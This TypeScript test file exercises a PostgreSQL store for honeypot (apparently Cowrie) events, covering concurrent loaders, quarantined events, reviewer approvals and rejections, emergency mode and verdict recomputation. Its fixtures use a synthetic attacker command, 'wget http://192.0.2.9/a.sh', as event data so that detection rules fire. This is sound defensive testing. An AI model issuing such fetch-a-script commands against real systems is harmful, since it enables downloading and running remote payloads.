/** Verdicts, withheld events and decisions on PostgreSQL: what several loaders and reviewers at once must not break. */
import assert from 'node:assert/strict'
import { after, describe, test } from 'node:test'
import { setTimeout as delay } from 'node:timers/promises'
import pg from 'pg'
import type { Verdict } from '../../src/core/verdict.ts'
import { approve, reject } from '../../src/pipeline/quarantine.ts'
import { type Verdict as Verification, verifyStore } from '../../src/pipeline/verify.ts'
import type { JournalDraft } from '../../src/store/journal.ts'
import type { Store, VerdictChange } from '../../src/store/port.ts'
import { Names } from '../../src/store/postgres/names.ts'
import type { PostgresStore } from '../../src/store/postgres/store.ts'
import { moveStore } from '../../src/store/transfer/move.ts'
import { ENGINES } from '../support/engines.ts'
import {
  events,
  type Fields,
  Lab,
  lines,
  registry,
  VERIFY_ALL,
  VERSIONS,
  withLimits,
  withTempFolder,
} from '../support/loading.ts'
import { missingPostgres } from '../support/postgres.ts'

const engine = ENGINES.find((one) => one.name === 'postgres')!
/** Withholds every event that a rule hits. */
const ALL = 0
/** Withholds none. */
const NONE = 101

/** So many commands that fetch something: a rule hits each. */
function commands(count: number, overrides: Fields = {}): Fields[] {
  const input = 'wget http://192.0.2.9/a.sh'
  return events(count, { eventid: 'cowrie.command.input', input, ...overrides })
}

const IN_BOTH =
  'select count(*) as n from raw_events join held_events using (event_time_us, session_key, digest)'

/** Transactions last long enough to meet: each that has stored its events waits before it goes on. */
const PAUSE = `create function pause() returns trigger language plpgsql as $$ begin perform pg_sleep(0.2); return null; end $$;
  create trigger pause after insert on batches for each statement execute function pause()`

describe('PostgreSQL', { skip: missingPostgres }, () => {
  after(() => engine.end?.())

  test('loaders at once, of which some withhold what others store, keep each event in one table', async (t) => {
    await using lab = await Lab.open(engine)
    // The same events in four spellings, so that they are four sources; some sessions are there before.
    const all = commands(3_000)
    lab.write('first.json', lines(all.slice(2_500)))
    await lab.load({ paths: [lab.path('first.json')], holdHazard: NONE })
    await lab.tamper(PAUSE)
    const stores: Store[] = []
    try {
      const limits = { transactionRecordsMax: 1_000, batchRecordsMax: 500 }
      const reports = await withLimits(limits, () =>
        Promise.all(
          [ALL, NONE, ALL, NONE].map(async (holdHazard, n) => {
            const store = await lab.openAgain()
            stores.push(store)
            lab.write(`copy-${n}.json`, spelled(all, n))
            return lab.load({ paths: [lab.path(`copy-${n}.json`)], holdHazard }, store)
          }),
        ),
      )
      t.diagnostic(
        `stored or held by loader: ${reports.map(({ totals }) => `${totals.stored}/${totals.held}`).join(', ')}`,
      )
      const sum = (fate: 'stored' | 'held' | 'duplicate'): number =>
        reports.reduce((total, { totals }) => total + totals[fate], 0)
      assert.equal(sum('stored') + sum('held'), 2_500)
      assert.equal(sum('duplicate'), 9_500)
    } finally {
      for (const store of stores) await store.close()
    }
    assert.equal(Number((await lab.all<{ n: number }>(IN_BOTH))[0]!.n), 0)
    assert.deepEqual(await problemsOf(lab), [])
  })

  test('an event that two transactions and one batch repeat is withheld once', async () => {
    await using lab = await Lab.open(engine)
    const all = commands(50, { session: '' })
    lab.write('a.json', lines([...all, ...all]))
    const first = await lab.load({ holdHazard: ALL })
    assert.deepEqual([first.totals.held, first.totals.duplicate], [50, 50])
    lab.write('b.json', spelled([...all, ...commands(60, { session: '' })], 1))
    const second = await lab.load({ holdHazard: ALL })
    assert.deepEqual([second.totals.held, second.totals.duplicate], [10, 100])
    assert.deepEqual(await problemsOf(lab), [])
  })

  test('an event that is stored is not withheld later, and the other way round', async () => {
    await using lab = await Lab.open(engine)
    lab.write('a.json', lines(commands(40)))
    await lab.load({ holdHazard: NONE })
    lab.write('b.json', spelled(commands(60), 1))
    const second = await lab.load({ holdHazard: ALL })
    assert.deepEqual([second.totals.held, second.totals.duplicate], [20, 40])
    lab.write('c.json', spelled(commands(80), 2))
    const third = await lab.load({ holdHazard: NONE })
    assert.deepEqual([third.totals.stored, third.totals.duplicate], [20, 60])
    assert.deepEqual(await problemsOf(lab), [])
  })

  test('in an emergency everything new is withheld, until it is over', async () => {
    await using lab = await Lab.open(engine)
    lab.write('a.json', lines(commands(10)))
    await lab.load({ holdHazard: NONE })
    await lab.store.review.setMode('emergency', 'on', emergency('on'))
    lab.write('b.json', spelled(commands(30), 1))
    const during = await lab.load({ holdHazard: NONE })
    assert.deepEqual([during.totals.held, during.totals.duplicate], [20, 10])
    await lab.store.review.setMode('emergency', 'off', emergency('off'))
    lab.write('c.json', spelled(commands(40), 2))
    const afterwards = await lab.load({ holdHazard: NONE })
    assert.deepEqual([afterwards.totals.stored, afterwards.totals.duplicate], [10, 30])
    assert.deepEqual(await problemsOf(lab), [])
  })

  test('approved events leave the same summaries as events that were never withheld', async () => {
    await using held = await Lab.open(engine)
    await using calm = await Lab.open(engine)
    // Two events at one instant give a session different addresses: one is stored, one is approved.
    const tied = commands(20, { session: 'tied', timestamp: '2026-05-02T00:00:00.000000Z' })
    const all = [...commands(2_000), ...commands(300, { session: '' }), ...tied]
    calm.write('a.json', lines(all))
    await calm.load({ holdHazard: NONE })
    held.write('a.json', lines(all.filter((_, i) => i % 2 === 0)))
    await held.load({ holdHazard: NONE })
    held.write('b.json', lines(all.filter((_, i) => i % 2 === 1)))
    await held.load({ holdHazard: ALL })
    const [batch] = await held.all<{ id: number }>('select max(id) as id from batches')
    const some = Array.from({ length: 50 }, (_, i) => i)
    for (const records of [some, undefined]) {
      const writer = held.store.writer(VERSIONS)
      await approve(held.store.reads(), writer, registry, decision(batch!.id, records))
      await writer.close()
      assert.deepEqual(await problemsOf(held), [])
    }
    for (const statement of SUMMARIES)
      assert.deepEqual(await held.all(statement), await calm.all(statement), statement)
    assert.deepEqual(await held.all('select * from held_sessions'), [])
  })

  test('of two reviewers who decide on the same events at once one is refused', async () => {
    await using lab = await Lab.open(engine)
    lab.write('a.json', lines(commands(200)))
    await lab.load({ holdHazard: ALL })
    const [batch] = await lab.all<{ id: number }>('select max(id) as id from batches')
    const writers = [1, 2, 3].map(() => lab.store.writer(VERSIONS))
    const results = await Promise.allSettled([
      ...writers.map((writer) =>
        approve(lab.store.reads(), writer, registry, decision(batch!.id, undefined)),
      ),
      reject(lab.store.reads(), lab.store.review, decision(batch!.id, undefined)),
    ])
    const codes = results.flatMap((one) =>
      one.status === 'rejected' ? [(one.reason as { code?: string }).code] : [],
    )
    // Who looked only after the other was done finds nothing to decide on.
    assert.equal(codes.length, 3)
    for (const code of codes) assert.match(String(code), /^(STORE_BUSY|LOOKUP_NO_EVENT)$/)
    assert.deepEqual(await problemsOf(lab), [])
  })

  test('verdicts of thousands of events change in a few statements, or not at all', async (t) => {
    await using lab = await Lab.open(engine)
    lab.write('a.json', lines([...commands(4_000), ...commands(100, { session: '' })]))
    await lab.load({ holdHazard: NONE })
    const [sensor] = await lab.all<{ id: number }>('select id from sensors')
    const found = await lab.all<Record<string, number | Buffer>>(
      'select event_time_us, session_key, digest, verdict_id from raw_events order by 1, 2, 3',
    )
    const changes = found.map((row, i): VerdictChange => {
      const n = i % 1_000
      return {
        isHeld: false,
        eventTimeUs: Number(row['event_time_us']),
        sessionKey: Number(row['session_key']),
        digest: row['digest'] as Buffer, // a column of bytes
        sensorId: sensor!.id,
        from: Number(row['verdict_id']),
        to: n === 0 ? undefined : verdict(n),
      }
    })
    const run = { ruleSet: 'other', rules: [], fromBatch: 1, toBatch: 1 }
    const query = t.mock.method(pg.Client.prototype, 'query')
    const began = performance.now()
    await lab.store.review.applyVerdicts(run, changes, recomputed(1))
    t.diagnostic(`${changes.length} verdicts in ${Math.round(performance.now() - began)} ms`)
    assert.ok(query.mock.callCount() < 30, `${query.mock.callCount()} statements`)
    query.mock.restore()
    const scores = `select max(threat_score) as threat, max(hazard_score) as hazard from sessions where session = ''`
    const [expected] = await lab.all<{ threat: number; hazard: number }>(
      `select max(threat) as threat, max(hazard) as hazard from raw_events
         join verdicts on verdicts.id = verdict_id join sessions using (session_key) where session = ''`,
    )
    assert.deepEqual((await lab.all(scores))[0], expected)
    const [daily] = await lab.all('select sum(count) as n from daily_verdicts')
    const [counted] = await lab.all('select count(*) as n from raw_events where verdict_id <> 0')
    assert.deepEqual(daily, counted)
    // The numbers they had are no longer theirs.
    await assert.rejects(lab.store.review.applyVerdicts(run, changes, recomputed(2)), {
      code: 'STORE_BUSY',
    })
    assert.deepEqual(await lab.all('select sum(count) as n from daily_verdicts'), [daily])
  })

  test('verdicts made anew while a load of the same session commits leave every count right', async () => {
    await using lab = await Lab.open(engine)
    const session = 'a1b2c3d4e5f6'
    lab.write('a.json', lines(commands(500, { session })))
    await lab.load({ holdHazard: NONE })
    const rows = await lab.all<Record<string, number | Buffer>>(
      `select event_time_us, session_key, raw_events.digest as digest, verdict_id, sensor_id
         from raw_events join sessions using (session_key)`,
    )
    const changes = rows.map(
      (row, n): VerdictChange => ({
        isHeld: false,
        eventTimeUs: Number(row['event_time_us']),
        sessionKey: Number(row['session_key']),
        digest: row['digest'] as Buffer, // a column of bytes
        sensorId: Number(row['sensor_id']),
        from: Number(row['verdict_id']),
        to: verdict(n % 3),
      }),
    )
    await lab.tamper(PAUSE)
    const other = await lab.openAgain()
    try {
      // Of another day, so that no row of a day's counts keeps the two apart.
      const timestamp = '2026-05-03T00:00:00.000000Z'
      lab.write('b.json', lines(commands(300, { session, timestamp })))
      const loading = lab.load({ holdHazard: NONE }, other)
      // Its events are there and not committed.
      const pauses = `select 1 from pg_stat_activity where datname = current_database() and wait_event = 'PgSleep'`
      while ((await lab.all(pauses)).length === 0) await delay(2)
      const run = { ruleSet: 'other', rules: [], fromBatch: 1, toBatch: 1 }
      await lab.store.review.applyVerdicts(run, changes, recomputed(1))
      assert.equal((await loading).totals.stored, 300)
    } finally {
      await other.close()
    }
    const [daily] = await lab.all('select coalesce(sum(count), 0) as n from daily_verdicts')
    const [counted] = await lab.all('select count(*) as n from raw_events where verdict_id <> 0')
    assert.deepEqual(daily, counted)
    const wrong = await lab.all(
      `select session_key from sessions left join
         (select raw_events.session_key, max(threat) as threat, max(hazard) as hazard
            from raw_events join verdicts on id = verdict_id group by 1) as events using (session_key)
        where threat_score <> coalesce(threat, 0) or hazard_score <> coalesce(hazard, 0)`,
    )
    assert.deepEqual(wrong, [])
  })

  test('a move from SQLite and back keeps verdicts, withheld events and what was decided on them', async () => {
    const sqlite = ENGINES.find((one) => one.name === 'sqlite')!
    await using origin = await Lab.open(sqlite)
    // One session has stored and withheld events, one has odd letters and is withheld whole.
    origin.write('a.json', lines([...commands(300), ...events(20, { session: 'both' })]))
    await origin.load({ holdHazard: NONE })
    const more = [
      ...commands(9, { session: 'both' }),
      ...commands(8, { session: 'ODD', sensor: 'another' }),
      ...commands(40, { session: 'a00000000001' }),
    ]
    origin.write('b.json', lines(more))
    await origin.load({ holdHazard: ALL })
    const batchId = await origin.store.reads().newestBatch()
    const writer = origin.store.writer(VERSIONS)
    await approve(origin.store.reads(), writer, registry, decision(batchId, [0, 1, 9, 20, 30]))
    await writer.close()
    await reject(origin.store.reads(), origin.store.review, decision(batchId, [2, 10, 21]))
    await origin.store.review.setMode('emergency', 'on', emergency('on'))
    await origin.store.review.addMetrics({ figure: 7 })
    assert.deepEqual(await problemsOf(origin), [])

    await using there = await Lab.open(engine)
    const move = async (from: Store, to: Store): Promise<readonly string[]> => {
      const { problems } = await moveStore({
        from,
        to,
        command: 'test',
        signal: new AbortController().signal,
        progress: () => {},
        verify: async (reads) => problemsIn(await verifyStore(reads, VERIFY_ALL)),
      })
      return problems
    }
    assert.deepEqual(await move(origin.store, there.store), [])
    await withTempFolder(async (folder) => {
      const back = await (await sqlite.create(folder)).open('write')
      try {
        assert.deepEqual(await move(there.store, back), [])
      } finally {
        await back.close()
      }
    })
    // A load goes on, and numbers of verdicts with it.
    await there.store.review.setMode('emergency', 'off', emergency('off'))
    there.write(
      'c.json',
      lines(commands(60, { session: 'ODD', input: 'wget http://192.0.2.9/b.sh' })),
    )
    assert.equal((await there.load({ holdHazard: ALL })).totals.held, 60)
    assert.deepEqual(await problemsOf(there), [])
  })

  test('a key that several loaders bring at once is made known once', async () => {
    await using lab = await Lab.open(engine)
    const key = { keyId: '00112233445566ff', publicKey: new Uint8Array(32) }
    await Promise.all([1, 2, 3, 4].map(() => lab.store.review.addRecipientKey(key, 1)))
    assert.deepEqual(await lab.store.review.recipientKeyIds(), [key.keyId])
    const added = await lab.all(`select 1 from audit_log where action = 'recipient.added'`)
    assert.equal(added.length, 1)
  })

  test('figures of several loaders add up', async () => {
    await using lab = await Lab.open(engine)
    const names = ['b', 'a', 'c', 'd']
    await Promise.all(
      names.map((name) => lab.store.review.addMetrics({ [name]: 1, all: 2.4, 'z z': 3 })),
    )
    assert.deepEqual(await lab.all('select name, value from metrics order by name'), [
      { name: 'a', value: 1 },
      { name: 'all', value: 8 },
      { name: 'b', value: 1 },
      { name: 'c', value: 1 },
      { name: 'd', value: 1 },
      { name: 'z z', value: 12 },
    ])
  })

  test('a memory of names that was full forgets none that is asked for', async () => {
    await using lab = await Lab.open(engine)
    const { connections } = lab.store as PostgresStore // the engine is that one
    const names = new Names()
    const orders = Array.from({ length: 10_001 }, (_, i) => `["key ${i}"]`)
    await connections.withClient(async (client) => {
      await names.learn(client, { sensors: [], kinds: [], keyOrders: orders })
      const number = names.keyOrder(orders[0]!)
      await names.learn(client, { sensors: [], kinds: [], keyOrders: [orders[0]!, '["new"]'] })
      assert.equal(names.keyOrder(orders[0]!), number)
    })
  })
})

const SUMMARIES = [
  `select name, session, first_event_us, last_event_us, event_count, login_failed_count, duration_ms, protocol,
          threat_score, hazard_score, (select value from "values" where id = src_ip) as ip
     from sessions join sensors on sensors.id = sensor_id order by name, session`,
  `select session, value, kind, day, count from session_values join sessions using (session_key)
     join "values" on id = value_id order by 1, 2, 3, 4`,
  `select day, value, daily_values.kind, count, sessions from daily_values join "values" on id = value_id order by 1, 2, 3`,
  'select day, name, count from daily_events join event_kinds on id = kind_id order by 1, 2',
  'select day, hits, count from daily_verdicts join verdicts on id = verdict_id order by 1, 2',
]

function decision(batchId: number, records: readonly number[] | undefined) {
  return { batchId, records, actor: 'alice', reason: 'a test', falsePositives: [] }
}

function emergency(to: 'on' | 'off'): JournalDraft {
  const from = to === 'on' ? 'off' : 'on'
  return {
    actor: 'alice',
    action: `emergency.${to}`,
    subject: 'modes emergency',
    reason: 'a test',
    detail: {},
    decision: { from, to },
  }
}

function recomputed(n: number): JournalDraft {
  return {
    actor: 'alice',
    action: 'verdicts.recomputed',
    subject: `verdict_runs ${n}`,
    reason: 'a test',
    detail: { ruleSet: 'other', fromBatch: 1, toBatch: 1 },
  }
}

function verdict(n: number): Verdict {
  return { threat: n % 101, hazard: (n * 7) % 101, hits: `[["input","test.${n}"]]`, layers: '[]' }
}

/** The same events in another spelling: other bytes, so another source. */
function spelled(of: readonly Fields[], n: number): string {
  return of
    .map((one) => `${JSON.stringify(one).replaceAll('","', `",${' '.repeat(n + 1)}"`)}\n`)
    .join('')
}

async function problemsOf(lab: Lab): Promise<readonly string[]> {
  return problemsIn(await verifyStore(lab.store.reads(), VERIFY_ALL))
}

function problemsIn(verdict: Verification): readonly string[] {
  return [verdict.summaries, verdict.view, verdict.seals, verdict.journal].flatMap(
    (one) => one.problems,
  )
}
